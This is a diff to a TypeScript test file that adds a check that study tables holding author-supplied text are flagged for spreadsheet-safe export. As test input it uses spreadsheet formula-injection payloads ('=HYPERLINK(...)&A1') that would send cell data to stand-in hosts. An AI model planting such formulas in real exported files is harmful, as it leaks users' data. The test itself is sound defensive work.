@@ -11,7 +11,7 @@ import { spreadsheetTables, studyTables } from "../../../src/experiment/tables/s
 import { typeOf } from "../../../src/experiment/tables/table.ts";
 import { weeksTable } from "../../../src/experiment/tables/weeks.ts";
 import { outcomeWith } from "../fixtures/outcomes.ts";
-import { sampleScenario } from "../fixtures/scenarios.ts";
+import { alone, sampleScenario, team } from "../fixtures/scenarios.ts";
 
 test.each([
   '=HYPERLINK("http://e/?"&A1)',
@@ -70,6 +70,33 @@ function study() {
   const row = { cellIndex: 0, replication: 1, status: "ok", outcome } as const;
   return analyseStudy(planStudy(swept, { kind: "sweep" }), [row]);
 }
+
+test("a table without a twin for spreadsheets holds no text of a file's author that one could act on", () => {
+  const says = '=HYPERLINK("http://e.example/?"&A1)';
+  const claim = { name: "H1", says, measure: "engagementQuality", plan: "team", than: "alone" } as const;
+  const hostile = sampleScenario(
+    {
+      title: says,
+      question: says,
+      plans: [
+        { ...alone, label: says },
+        { ...team, label: says },
+      ],
+      hypotheses: [{ ...claim, kind: "difference", expect: "higher" }],
+    },
+    { replications: 2, seed: says },
+  );
+  const rows = [0, 1].flatMap((cellIndex) =>
+    [1, 2].map((replication) => {
+      const outcome = outcomeWith({ engagementQuality: cellIndex + replication / 10 });
+      return { cellIndex, replication, status: "ok", outcome } as const;
+    }),
+  );
+  const tables = studyTables(analyseStudy(planStudy(hostile, { kind: "compare" }), rows));
+  const acted = tables.filter((table) => [...table.rows()].flat().includes(says));
+  expect(spreadsheetTables).toEqual(expect.arrayContaining(acted.map(({ name }) => name)));
+  expect(acted.length).toBeGreaterThan(0);
+});
 
 test("a negative value of a lever is a number in every form of the table", () => {
   const [runs] = studyTables(study());
